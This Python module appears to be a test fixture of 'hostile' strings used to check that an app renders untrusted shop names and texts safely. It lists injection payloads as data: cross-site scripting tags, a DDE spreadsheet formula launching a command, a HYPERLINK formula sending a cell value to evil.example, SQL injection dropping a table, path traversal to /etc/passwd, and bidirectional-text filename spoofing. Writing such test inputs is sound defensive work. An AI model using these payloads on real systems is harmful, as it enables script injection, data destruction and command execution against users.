"""Texts that try to be more than text, for the merchant `hostile-text`."""

from __future__ import annotations

NAME = '<b>Bold</b> & "Söns" [Shop](https://evil.example) \u202egnp.exe'

TEXTS = (
    "<script>alert('sandbox')</script>",
    '<img src=x onerror="alert(1)">',
    "[click here](https://evil.example/click)",
    "![picture](https://evil.example/picture.png)",
    '=HYPERLINK("https://evil.example/"&A1,"sales")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1,1)",
    "-2+3",
    "\t=1+1",
    "$\\frac{1}{0}$ and $$\\int x$$",
    ":material/delete: :red[alarm] :smile: :material_bolt:",
    "\u202egnp.exe\u202c then \u2066isolated\u2069 and \u200ezero\u200b width",
    "line one\nline two\r\nline three\ttab",
    "bell \x07 escape \x1b[31mred\x1b[0m null \x00 end",
    "\"quoted\" and 'quoted' and `ticked`",
    "</td></tr></table><h1>Broken out</h1>",
    "# Heading\n\n| a | b |\n| - | - |\n| 1 | 2 |",
    "{{7*7}} ${7*7} %(x)s {0} <%= 7*7 %>",
    "https://evil.example/bare-link and www.evil.example",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp;",
    "' OR 1=1; DROP TABLE syncs; --",
    "../../../etc/passwd",
    "%{hovertemplate} <extra></extra><br><a href='https://evil.example'>x</a>",
    "Ω≈ç√ 漢字 עִבְרִית 👩‍👩‍👧‍👦 é é",
    "<svg/onload=alert(2)><iframe src=https://evil.example></iframe>",
    " \u00a0 ",
)
LONG = ("A long message about <b>nothing</b> that goes on; " * 2100)[:100_000]
"""100,000 characters."""


def spread(first: int) -> str:
    """Return several of the texts in one, beginning with the given one."""
    return " · ".join(TEXTS[first : first + 4])
